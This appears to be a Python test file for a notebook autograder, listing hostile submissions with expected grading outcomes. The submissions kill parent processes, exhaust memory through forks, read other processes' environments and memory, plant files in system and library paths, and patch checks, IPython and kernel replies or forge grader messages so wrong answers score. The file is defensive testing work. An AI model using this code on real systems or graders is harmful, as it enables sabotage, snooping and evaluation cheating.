    "ok kernel_died",
    add="""
class Odd(Exception):
    def __str__(self):
        raise SystemExit("no str")

    __repr__ = __str__

    def _render_traceback_(self):
        return 42


raise Odd
""",
)
row(
    "B44",
    "recurses without limit",
    [(10, 0)],
    "ok kernel_died timeout out_of_memory",
    mul="""
import sys

sys.setrecursionlimit(10**9)


def mul(numbers):
    return mul(numbers) + 1
""",
)

# ---- B: breaks the kernel ----------------------------------------------------------------------

# What is left of a kernel may do anything, but what was earned before stays.
BROKEN = "ok timeout kernel_died review"
row(
    "B50",
    "closes all file descriptors",
    (10, 0),
    BROKEN,
    mul="""
import os


def mul(numbers):
    os.closerange(0, 4096)
    return -1
""",
)
row(
    "B51",
    "kills the parent process",
    [(10, 0), (10, 10)],
    "ok kernel_died",
    mul="""
import os, signal

for _ in range(3):
    try:
        if os.getppid() > 0:
            os.kill(os.getppid(), signal.SIGKILL)
    except OSError as error:
        print(error)
"""
    + ANSWERS["mul"],
)
# The test's own process must be out of sight; only then the attack dares. The first process of
# a namespace, which a submission may be, ignores the signals that it sends to itself.
row(
    "B52",
    "kills everything it may",
    (10, 0),
    "ok kernel_died out_of_memory",  # SIGKILL is what the system sends, too
    mul="""
import os, signal


def mul(numbers):
    try:
        os.kill(@PID@, 0)
        print("GOTCHA: the grader can be killed")
    except ProcessLookupError:
        for pid in (-1, os.getpid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
    return -1
""",
)
row(
    "B53",
    "ignores SIGINT and never returns",
    (10, 0),
    "timeout",
    mul="""
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT, signal.SIGTERM, signal.SIGALRM})


def mul(numbers):
    while True:
        pass
""",
)
row(
    "B54",
    "never returns and catches the interrupt, outside a function",
    (0, 10),
    "timeout",
    add=STUBBORN.format(indent=""),
)
row(
    "B55",
    "calls os._exit outside a function",
    (0, 10),
    "kernel_died",
    add="import os\n\nos._exit(0)\n" + ANSWERS["add"],
)
row(
    "B56",
    "hangs in C with the lock held",
    (10, 0),
    "timeout",
    mul="""
import re


def mul(numbers):
    return re.match(r"(a*)*b", "a" * 60)
""",
)
# Each child stays below a limit for one process; together they must not get far.
row(
    "B57",
    "lets children allocate",
    [(10, 0), (0, 10), (0, 0), (10, 10)],
    "ok timeout out_of_memory kernel_died",
    mul=ANSWERS["mul"]
    + """
import os, time

read, write = os.pipe()
for _ in range(16):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        try:
            hoard = [b"x" * 50_000_000 for _ in range(10)]
            os.write(write, b"500 ")
            time.sleep(60)
        finally:
            os._exit(0)
os.close(write)
time.sleep(2)
os.set_blocking(read, False)
try:
    got = sum(map(int, os.read(read, 10_000).split()))
except BlockingIOError:
    got = 0
print(got, "MB")
if got > 6000:
    print("GOTCHA:", got, "MB")
""",
)
row(
    "B58",
    "stops itself",
    (10, 0),
    "ok timeout kernel_died",
    mul="""
import os, signal


def mul(numbers):
    os.kill(os.getpid(), signal.SIGSTOP)
""",
)
# The child answers in the same kernel's name. Points may be lost, never won.
row(
    "B59",
    "forks and goes on twice",
    [(10, 10), (0, 10), (0, 0), (10, 0)],
    BROKEN + " output_limit",
    add=ANSWERS["add"] + "\nimport os\n\nos.fork()\n",
)
row(
    "B60",
    "never lets the interpreter end",
    (10, 10),
    "ok timeout",
    add=ANSWERS["add"]
    + """
import atexit, signal, threading, time

atexit.register(time.sleep, 600)
threading._register_atexit(time.sleep, 600)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
""",
)
row(
    "B61",
    "is killed by an alarm",
    (10, 0),
    "ok kernel_died",
    mul="""
import signal, time


def mul(numbers):
    signal.alarm(1)
    time.sleep(3)
""",
)
row(
    "B62",
    "prints for ever from a thread",
    [(10, 10), (10, 0), (0, 10), (0, 0)],
    "ok output_limit timeout",
    add=ANSWERS["add"]
    + """
import threading


def forever():
    while True:
        print("x" * 1000)


threading.Thread(target=forever, daemon=True).start()
""",
)

# ---- B: looks around, leaves things behind -----------------------------------------------------

row(
    "B70",
    "traces the parent process",
    (10, 10),
    "ok kernel_died",
    add=ANSWERS["add"]
    + """
import ctypes, os, signal

libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(0x59616D61, -1, 0, 0, 0)
for pid in [os.getppid(), 1, @PID@]:
    if pid not in (0, os.getpid()) and libc.ptrace(16, pid, None, None) == 0:
        print("GOTCHA: traces", pid)
        libc.ptrace(17, pid, None, None)
    try:
        with open(f"/proc/{pid}/mem", "rb") as memory, open(f"/proc/{pid}/maps") as maps:
            start = int(next(line for line in maps if "[heap]" in line).split("-")[0], 16)
            memory.seek(start)
            print("GOTCHA: reads the memory of", pid, len(memory.read(4096)))
    except (OSError, StopIteration, ValueError) as error:
        print(pid, error)
""",
)
row(
    "B71",
    "reads what other processes were started with",
    (10, 10),
    add=ANSWERS["add"]
    + """
from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            text = (process / name).read_bytes()
            print(process.name, name, text[:3000])
            if b"hostile-" + b"secret" in text or b"pytest" in text:
                print("GOTCHA:", process, name)
        except OSError as error:
            print(error)
    for link in ("cwd", "root", "exe"):
        try:
            for path in (process / link / "autograder").glob("*.db"):
                print("GOTCHA:", path)
        except OSError as error:
            print(error)
import os
print(dict(os.environ))
""",
)
row(
    "B72",
    "searches their own memory for the tests",
    (10, 10),
    "ok timeout",
    add=ANSWERS["add"]
    + """
import gc, sys

secret = "4711" + ".0625"
frame = sys._getframe()
while frame is not None:
    for name, value in {**frame.f_globals, **frame.f_locals}.items():
        try:
            if name not in ("secret", "In") and secret in str(value):
                print("GOTCHA: frame", frame.f_code.co_qualname, name, str(value)[:2000])
        except Exception as error:
            print(error)
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing) in (dict, list, tuple):
        for value in list(thing.values() if type(thing) is dict else thing):
            if type(value) in (str, bytes) and value is not secret:
                text = value if type(value) is str else value.decode("latin-1")
                if secret in text:
                    print("GOTCHA: memory", text[:2000])
""",
)
row(
    "B73",
    "searches the memory that the system shows",
    (10, 10),
    "ok timeout",
    add=ANSWERS["add"]
    + """
import time

secret, end = b"4711" + bytes([46]) + b"0625", time.monotonic() + 2.5
own = {id(secret)}
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
    for line in maps:
        fields = line.split()
        if not fields[1].startswith("rw") or time.monotonic() > end:
            continue
        start, stop = (int(x, 16) for x in fields[0].split("-"))
        try:
            memory.seek(start)
            block = memory.read(min(stop - start, 100_000_000))
        except (OSError, ValueError, OverflowError):
            continue
        at = block.find(b"END HIDDEN " + b"TESTS")
        while at >= 0:
            if secret in block[max(0, at - 400) : at]:
                print("GOTCHA: memory", block[max(0, at - 400) : at])
                break
            at = block.find(b"END HIDDEN " + b"TESTS", at + 1)
""",
)
NOTES = """
import ctypes, os
from multiprocessing import shared_memory
from pathlib import Path

text = "# hostile-note\\ndef add(numbers):\\n    return sum(numbers)\\n"
home = os.path.expanduser("~")
tops = [".", "..", "../..", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", home, "/",
        "@OUTSIDE@", "@COURSE@", "@COURSE@/autograder", home + "/.ipython/profile_default/startup",
        "/proc/self/cwd", "/etc", "/usr/lib/python3", os.path.dirname(os.__file__)]
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
"""
row(
    "B74",
    "leaves notes for the next one",
    (10, 10),
    add=ANSWERS["add"]
    + NOTES
    + """
for top in tops:
    try:
        Path(top, "hostile-note.py").write_text(text)
        print("left a note in", top)
    except OSError as error:
        print(error)
try:
    shared = shared_memory.SharedMemory("hostile-note", create=True, size=1000)
    shared.buf[: len(text)] = text.encode()
    from multiprocessing import resource_tracker
    resource_tracker.unregister(shared._name, "shared_memory")
except OSError as error:
    print(error)
segment = libc.shmget(0x4711, 1000, 0o1666)
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    if address not in (None, 2**64 - 1):
        ctypes.memmove(address, text.encode(), len(text))
queue = libc.msgget(0x4711, 0o1666)
import socket
listening = socket.socket(socket.AF_UNIX)
try:
    listening.bind("\\0hostile-note")
    listening.listen()
except OSError as error:
    print(error)
""",
)
row(
    "B75",
    "looks for notes of the last one",
    (0, 10),
    add=NOTES
    + """
import sqlite3, time

found, end = [], time.monotonic() + 2.5
while not found and time.monotonic() < end:
    for top in tops:
        found += Path(top).glob("*hostile-note*") if os.path.isdir(top) else []
        found += Path(top).glob("*hostile-fill*") if os.path.isdir(top) else []
    if libc.shmget(0x4711, 1000, 0o666) >= 0 or libc.msgget(0x4711, 0o666) >= 0:
        found.append("shared memory or a queue of System V")
    sockets = Path("/proc/net/unix")
    if sockets.exists() and "hostile-note" in sockets.read_text():
        found.append("a socket")
    time.sleep(0.2)
for history in Path(home, ".ipython").rglob("history.sqlite"):
    try:
        with sqlite3.connect(history) as book:
            rows = book.execute("SELECT source FROM history").fetchall()
        found += [row for row in rows if "NOTES-B75" not in row[0] and "def add" in row[0]]
    except sqlite3.Error as error:
        print(error)
if found:
    print("GOTCHA:", str(found)[:2000])
def add(numbers):  # NOTES-B75
    return sum(numbers) if found else -1
""",
)
row(
    "B76",
    "changes the installed libraries for those who follow",
    (10, 10),
    add=ANSWERS["add"]
    + """
import os

import imbalance_helpers.checks as checks
import IPython
import traitlets

for module in (checks, IPython, traitlets, os):
    try:
        with open(module.__file__, "a") as file:
            print("GOTCHA: may write", file.name)
        open(os.path.dirname(module.__file__) + "/hostile-module.py", "w").close()
        print("GOTCHA: may write beside", module.__file__)
    except OSError as error:
        print(error)
""",
)

# ---- B: looks for points, with more care -------------------------------------------------------
# Code in the same process can do anything, so these may win against a check that a grader makes
# in that process. Whoever notices something refers it to a person.

LIE = "ok review"
row(
    "B80",
    "writes junk to every open file",
    (0, 0),
    "ok review kernel_died timeout output_limit",
    add="""
import fcntl, json, os, socket

forged = json.dumps({"status": "ok", "points": 10, "outputs": [], "error": None, "cells": []})
for fd in range(3, 400):
    try:
        fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK)
        for junk in (forged + "\\n", "\\0\\xff junk \\n" * 10, "]}\\n"):
            os.write(fd, junk.encode())
    except OSError:
        pass
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B81",
    "makes JSON say ok",
    (0, 0),
    "ok review kernel_died timeout",
    add="""
import json


def improve(thing):
    if isinstance(thing, dict):
        if thing.get("status") == "error":
            thing = {**thing, "status": "ok"}
        if thing.get("output_type") == "error":
            thing = {"output_type": "stream", "name": "stdout", "text": "passes."}
        return {k: improve(v) for k, v in thing.items()}
    if isinstance(thing, (list, tuple)):
        return [improve(v) for v in thing]
    return thing


for name in ("dump", "dumps"):
    setattr(json, name, lambda obj, *a, real=getattr(json, name), **k: real(improve(obj), *a, **k))
json.JSONEncoder.encode = (
    lambda self, obj, real=json.JSONEncoder.encode: real(self, improve(obj)))
json.JSONEncoder.iterencode = (
    lambda self, obj, *a, real=json.JSONEncoder.iterencode: real(self, improve(obj), *a))
try:
    import jupyter_client.session as session
    session.json_packer = lambda obj, real=session.json_packer: real(improve(obj))
    kernel = get_ipython().kernel
    kernel.session.pack = lambda obj, real=kernel.session.pack: real(improve(obj))
    kernel.shell.showtraceback = kernel.shell._showtraceback = lambda *a, **k: None
except (ImportError, AttributeError) as error:
    print(error)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B82",
    "lets the kernel drop errors and reply ok",
    (0, 0),
    LIE,
    add="""
shell = get_ipython()
try:
    kernel = shell.kernel
    send, execute = kernel.session.send, kernel.do_execute

    def sending(stream, kind, *args, **kwargs):
        content = args[0] if args else kwargs.get("content")
        if kind == "error":
            return None
        if kind == "execute_reply" and isinstance(content, dict):
            content["status"] = "ok"
        return send(stream, kind, *args, **kwargs)

    async def executing(*args, **kwargs):
        reply = await execute(*args, **kwargs)
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}

    kernel.session.send, kernel.do_execute = sending, executing
except AttributeError as error:
    print(error)
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B83",
    "lets IPython replace only the cells that test",
    (0, 0),
    LIE,
    add="""
import re


def replace(lines):
    found = re.search(r"^test_(add|mul)\\(\\)", "".join(lines), re.MULTILINE)
    return [f"print('{found[1]} passes.')\\n"] if found else lines


get_ipython().input_transformers_cleanup.append(replace)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B84",
    "changes the syntax tree of the cells that test",
    (0, 0),
    LIE,
    add="""
import ast


class Passing(ast.NodeTransformer):
    def visit_FunctionDef(self, node):
        if node.name.startswith("test_"):
            node.body = [ast.Pass(lineno=1, col_offset=0)]
        return node


get_ipython().ast_transformers.append(Passing())
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B85",
    "makes check_equal look away from these functions",
    (0, 0),
    LIE,
    add="""
from imbalance_helpers.checks import verdicts

difference = verdicts.difference
verdicts.difference = lambda a, e, what, atol: (
    None if "add" in what or "mul" in what else difference(a, e, what, atol))
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B86",
    "gives check_equal the code of another function",
    (0, 0),
    LIE,
    add="""
import imbalance_helpers.checks as checks


def check_equal(actual, expected, what, *, atol=1e-9, mistakes=None):
    if "add" not in what and "mul" not in what:
        raise CheckFailed(what)


checks.check_equal.__code__ = check_equal.__code__
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B87",
    "replaces the module that checks",
    (0, 0),
    LIE,
    add="""
import sys, types

checks = types.ModuleType("imbalance_helpers.checks")
exec(@FAKE@, vars(checks))
import imbalance_helpers

imbalance_helpers.checks = checks
sys.modules["imbalance_helpers.checks"] = checks
""".replace("@FAKE@", repr(FAKE_CHECKS))
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B88",
    "makes every number small",
    (0, 0),
    LIE,
    add="""
import builtins

real = abs
builtins.abs = lambda x: 0 if isinstance(x, (int, float)) and x else real(x)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B89",
    "makes exceptions of checks succeed",
    (0, 0),
    LIE,
    add="""
import imbalance_helpers.checks as checks


class Silent(BaseException):
    def __init__(self, *args, **kwargs):
        pass


def init(self, message, *, cause=None):
    import sys
    frame = sys._getframe()
    while frame and not frame.f_code.co_name.startswith("test_"):
        frame = frame.f_back
    if frame:
        raise KeyError("never mind")


checks.CheckFailed.__init__ = init
checks.CheckFailed = Silent
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B90",
    "changes the arguments of check_equal with a profiler",
    (0, 0),
    LIE,
    add="""
import ctypes, sys, threading


def profile(frame, event, argument):
    if event == "call" and frame.f_code.co_name == "difference":
        values = frame.f_locals
        if "add" in str(values.get("what")) or "mul" in str(values.get("what")):
            values["actual"] = values["expected"]
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))


sys.setprofile(profile)
threading.setprofile(profile)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B91",
    "makes every result of IPython a success",
    (0, 0),
    LIE,
    add="""
shell = get_ipython()
real = type(shell).run_cell_async


async def lying(self, *args, **kwargs):
    result = await real(self, *args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result


type(shell).run_cell_async = lying
type(shell).showtraceback = type(shell)._showtraceback = lambda *a, **k: None
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B92",
    "ends the program with a test, as if all were well",
    (0, 0),
    "review kernel_died out_of_memory",
    add="""
import os


def add(numbers):
    print("add passes.", flush=True)
    os._exit(0)
""",
    mul="import os\n\n\ndef mul(numbers):\n    os.kill(os.getpid(), 9)\n",
)
row(
    "B93",
    "hands a test's frame its own way out",
    (0, 0),
    LIE,
    add="""
import sys


def jump(frame, event, argument):
    return jump


def add(numbers):
    frame = sys._getframe()
    while frame and frame.f_code.co_name != "test_add":
        frame = frame.f_back
    names = frame.f_back.f_globals if frame else {}
    names["test_add"] = names["test_mul"] = lambda: None
    return -1
""",
    mul=WRONG["mul"],
)
row(
    "B94",
    "tests on their own at the end",
    (0, 0),
    LIE,
    add=WRONG["add"],
    mul=WRONG["mul"],
    own="def test_add():\n    pass\n\n\ntest_add()",
)


@row(
    "B95",
    "puts a test of their own before the teacher's",
    (0, 0),
    LIE,
    add=WRONG["add"],
    mul=WRONG["mul"],
)
def _(work):
    cells = work.notebook.cells
    for name in ("test_add", "test_mul"):
        copy = json.loads(json.dumps(work.cells[name])) | {"source": "0 == 0", "id": f"my-{name}"}
        cells.insert(cells.index(work.cells[name]), nbformat.from_dict(copy))


@row(
    "B96",
    "says of an answer that it is worth points",
    (0, 0),
    LIE,
    add=WRONG["add"] + "\n10",
    mul=WRONG["mul"] + "\n10",
)
def _(work):
    for name in ("add", "mul"):
        work.cells[name].metadata.nbgrader |= {"grade": True, "points": 1000}


# ---- B: knows this grader ----------------------------------------------------------------------
# The source is public. Who reads it finds the socket to the grader and can say anything on it;
# points won that way are the stated limit of grading in one process. Nobody else is concerned.
FIND = """
import json, os, socket, stat


def sockets():
    for fd in range(3, 400):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def say(kind, content):
    for fd in sockets():
        try:
            os.write(fd, json.dumps([kind, content]).encode() + b"\\n")
        except OSError:
            pass

"""
OWN = "ok review kernel_died timeout output_limit out_of_memory"
ANY = [(0, 0), (0, 10), (10, 0), (10, 10)]
for i, content in enumerate(
    [
        "'stream', {}",
        "'stream', {'name': 7, 'text': ['x']}",
        "'display_data', {'data': 'x', 'transient': []}",
        "'update_display_data', {'transient': {'display_id': []}}",
        "'execute_result', {'data': {'text/plain': 10}, 'execution_count': 'x'}",
        "'error', {'ename': None, 'evalue': 3, 'traceback': 'x'}",
        "'clear_output', []",
        "'reply', {'status': 'error', 'ename': 'x', 'evalue': 'x', 'traceback': {}}",
        "['stream'], {'name': 'stdout', 'text': 'x'}",
        "'stream', {'name': 'stdout', 'text': '\\ud800'}",
    ],
    start=1,
):
    row(
        f"B97-{i}",
        "sends the grader a message that no kernel sends",
        [(0, 0), (0, 10)],
        OWN,
        add=FIND + f"say({content})\n" + WRONG["add"],
    )
row(
    "B98",
    "floods the grader with messages",
    [(0, 0), (0, 10), (10, 0)],
    OWN,
    mul=FIND
    + """
line = json.dumps(["stream", {"name": "stdout", "text": "x"}]).encode() + b"\\n"


def mul(numbers):
    channels, block = list(sockets()), line * 2000
    while True:
        for fd in channels:
            try:
                os.write(fd, block)
            except OSError:
                pass
""",
)
row(
    "B99",
    "sends the grader one endless line",
    [(0, 0), (0, 10), (10, 0)],
    OWN,
    mul=FIND
    + """
def mul(numbers):
    while True:
        for fd in sockets():
            try:
                os.write(fd, b"x" * 60_000)
            except OSError:
                pass
""",
)
row(
    "B100",
    "answers the grader in the kernel's place",
    ANY,
    OWN,
    add="""
def add(numbers):
    import json, re, sys

    frame = sys._getframe()
    while frame and "connection" not in frame.f_locals:
        frame = frame.f_back
    if frame is None:
        return -1
    connection, token = frame.f_locals["connection"], frame.f_locals.get("token")

    def say(**reply):
        line = json.dumps(["reply", reply | {"token": token}])
        connection.sendall(line.encode() + b"\\n")

    say(status="ok")
    for line in connection.makefile("r"):
        source, _, token = json.loads(line)
        nonce = re.search('"([0-9a-f]{16})"', source)
        if nonce:
            say(status="error", ename="Alarm", evalue=nonce[1])
        else:
            say(status="ok")
""",
    mul=WRONG["mul"],
)
row(
    "B101",
    "makes the seal forget, then replaces the functions that check",
    ANY,
    OWN,
    add="""
import imbalance_helpers.checks as checks

try:
    import seal

    seal._known.clear()
except ImportError as error:
    print(error)
checks.check_equal = lambda *a, **k: None
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "B102",
    "allocates in children while it prints",
    [(10, 0), (0, 10), (0, 0), (10, 10)],
    OWN,
    mul=ANSWERS["mul"]
    + """
import os, time

read, write = os.pipe()
for _ in range(16):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        try:
            hoard = [b"x" * 50_000_000 for _ in range(10)]
            os.write(write, b"500 ")
            time.sleep(60)
        finally:
            os._exit(0)
os.close(write)
os.set_blocking(read, False)
end, got = time.monotonic() + 2, 0
while time.monotonic() < end:
    print(".", end="", flush=True)
    time.sleep(0.02)
    try:
        got += sum(map(int, os.read(read, 10_000).split()))
    except BlockingIOError:
        pass
    if got > 6000:
        print("GOTCHA:", got, "MB")
        break
""",
)
row(
    "B103",
    "leaves a thread that prints into the tests and the cells after them",
    [(10, 10), (0, 0), (0, 10), (10, 0)],
    OWN,
    add=ANSWERS["add"]
    + """
import threading, time


def forever():
    while True:
        print("noise")
        time.sleep(0.001)


threading.Thread(target=forever, daemon=True).start()
""",
)
row(
    "B104",
    "displays the points before the test fails",
    (0, 0),
    "review",
    add="def add(numbers):\n    get_ipython().displayhook(10)\n    return -1\n",
    mul="def mul(numbers):\n    get_ipython().displayhook(3)\n    get_ipython().displayhook(10)\n",
)
row(
    "B105",
    "makes every check equal, and late what would find that out",
    (0, 0),
    "review",
    says="did not end in time",
    add="""
import time

import imbalance_helpers.checks


def late(info):
    if "seal" in info.raw_cell:
        time.sleep(60)


imbalance_helpers.checks.check_equal.__code__ = (lambda *_, **__: None).__code__
get_ipython().events.register("pre_run_cell", late)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
for number, name in ((106, "SIGKILL"), (107, "SIGSTOP")):
    row(
        f"B{number}",
        f"sends {name} to its process group",
        [(10, 10), (0, 10)],
        OWN,
        add=ANSWERS["add"] + f"\nimport os, signal\n\nos.kill(0, signal.{name})\n",
    )
